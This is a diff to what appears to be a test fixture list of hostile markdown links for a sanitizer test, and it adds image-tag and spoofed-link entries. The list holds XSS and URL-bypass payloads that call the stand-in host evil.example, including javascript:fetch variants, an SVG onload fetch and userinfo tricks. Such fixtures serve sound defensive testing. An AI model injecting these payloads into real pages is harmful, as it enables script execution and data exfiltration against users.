@@ -11,6 +11,7 @@ _MARKDOWN = [
     "[a](https:evil.example)", "[a](HTTPS://EVIL.EXAMPLE)", "![a](data:image/svg+xml,<svg onload=fetch('//evil.example')>)",
     "[a](javascript:fetch('//evil.example'))", "[a](JaVaScRiPt:fetch`//evil.example`)", "[a](java\tscript:fetch('//evil.example'))",
     "[a](&#106;avascript:fetch('//evil.example'))", "[a](vbscript:evil.example)", "[a](data:text/html,<script src=//evil.example></script>)",
+    "[<img src=//evil.example>](/documents/1)", "[`<img src=//evil.example>](/documents/1)", "[//evil.example](/documents/1)",
     "[a](blob:https://evil.example/1)", "[a](/documents/..%2f..%2fevil.example)", "[a](/documents/x?y=//evil.example/#z)",
     "[a](/documents/1@evil.example/x)", "[a](https://127.0.0.1@evil.example/)", "[a](https://docs.example@evil.example/)",
     "[a](https://docs.example.evil.example/)", "[a](https://evil.example\\@docs.example/)", "[a](https://docs.example:443@evil.example)",
